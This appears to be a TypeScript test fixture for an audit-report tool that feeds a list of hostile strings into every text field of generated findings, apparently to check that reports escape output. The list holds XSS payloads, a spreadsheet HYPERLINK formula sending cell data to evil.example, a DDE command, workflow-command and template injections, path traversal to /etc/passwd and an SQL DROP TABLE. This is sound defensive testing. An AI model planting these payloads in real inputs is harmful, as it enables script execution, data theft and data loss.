import type { Evidence, Finding } from '../../src/findings/finding.ts';
import type { AuditResult } from '../../src/findings/result.ts';
import { makeEvidence, makeFinding, makeResult } from '../findings/make.ts';

/** What somebody may write into a name or a message, hoping that a report makes something of it. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  ']]></failure><error/>',
  '<!-- --> <![CDATA[ &lt; &#60; &amp;',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '  =1+1',
  '＝1+1',
  '\u001b[2J\u001b]0;title\u0007\u009b31m',
  '\u202eevil\u2066 \u200b\ufeff\u00ad',
  '\u0000\u0001\u007f\ufffe\uffff',
  'half \ud800 a pair \udc00',
  'one\ntwo\r\nthree\rfour\u2028five',
  '::error file=x::injected\n::stop-commands::x',
  '%0A::warning::injected',
  'a,b:c;d"e\'f`g',
  '# heading\n\n- item\n\n    code\n\n---\n===',
  '1. one',
  '> quote',
  '[link](javascript:alert(1)) ![image](http://evil.example/x.png)',
  '<http://evil.example> http://evil.example www.evil.example mail@evil.example @everyone #1',
  '[ref]: http://evil.example',
  '`` ` ``` code `',
  '| a | b |\n| - | - |\n| c | d |',
  '**bold** _it_ ~~gone~~ $x$ :smile: \\* \\',
  '{0} {{1}} [text](0)',
  '$$ #{x} <%= x %> {{constructor}}',
  '../../etc/passwd?a=b#c %41 C:\\x ü',
  "'; DROP TABLE findings; --",
  '__proto__',
  ' ',
  '',
];

/** One finding for each attack, with the attack in every field that holds text; the last is caused by the first. */
export function hostile(): AuditResult {
  const findings = attacks.map((text, at) => hostileFinding(text, at));
  const [first] = findings;
  return makeResult({
    tool: { name: attacks.join(' '), version: attacks.join(' ') },
    files: attacks.map((text, at) => ({
      path: `${text}${at}`,
      format: text,
      rows: 1,
      rejected: 0,
      duplicates: 0,
      account: text,
    })),
    issues: attacks.flatMap((text) =>
      (['error', 'data_loss', 'notice', 'info'] as const).map((severity) => ({
        severity,
        file: text,
        line: 1,
        message: text,
      })),
    ),
    rules: (['failed', 'skipped', 'clean', 'matched'] as const).map((status) => ({
      id: `${status}/${attacks.join('')}`,
      status,
      reason: attacks.join(' '),
      findings: 0,
      durationMs: 1,
    })),
    findings: findings.map((finding, at) =>
      at === findings.length - 1 && first !== undefined ? { ...finding, causedBy: [first.fingerprint] } : finding,
    ),
  });
}

function hostileFinding(text: string, at: number): Finding {
  const words = {
    ruleId: `rule/${text}`,
    title: text,
    cause: text,
    accountId: `AC${text}`,
    message: text,
    fix: text,
    reference: at % 2 === 0 ? text : `https://evil.example/${text}`,
    requestIds: [text],
    correlationIds: [text],
  };
  return makeFinding({
    ...words,
    subject: { type: 'resource', id: text },
    related: [{ type: 'address', id: text }],
    severity: (['critical', 'error', 'warning', 'info'] as const)[at % 4] ?? 'info',
    evidence: [0, 1].map((n) => hostileEvidence(text, n)),
    data: { [text]: text, list: [text, { [text]: [text] }], n: 1 },
  });
}

function hostileEvidence(text: string, n: number): Evidence {
  return makeEvidence(`${text}${n}`, {
    eventType: text,
    level: text,
    errorCode: n,
    errorReason: text,
    status: text,
    requestId: text,
    file: text,
    line: n === 0 ? null : 7,
  });
}
